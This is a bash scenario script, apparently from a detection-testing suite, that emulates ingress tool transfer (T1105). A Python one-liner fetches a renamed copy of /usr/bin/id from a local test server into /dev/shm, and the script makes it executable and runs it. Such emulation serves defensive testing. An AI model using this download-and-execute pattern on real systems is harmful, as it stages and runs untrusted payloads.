#!/usr/bin/env bash
# Ingress tool transfer: Python urllib downloads an ELF into /dev/shm, `chmod +x`, then runs it.
. "$(dirname "$0")/../lib.sh"
scn_begin ingress-python-devshm T1105
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_http_peer
cp /usr/bin/id "$SCN_WORK/srv/kdevtmp"
dest="/dev/shm/kdevtmp-$SCN_RUN_ID"
scn_newfile "$dest"
"$SCN_PY" -c 'import sys,urllib.request; urllib.request.urlretrieve(sys.argv[1], sys.argv[2])' \
    "$SCN_URL/kdevtmp" "$dest"
chmod +x "$dest"
"$dest" >"$SCN_WORK/out" &
key=$!
scn_wait_pid $key 10 || scn_fail "the payload did not finish"
grep -q 'uid=0' "$SCN_WORK/out" || scn_fail "the payload did not run"
scn_done $key
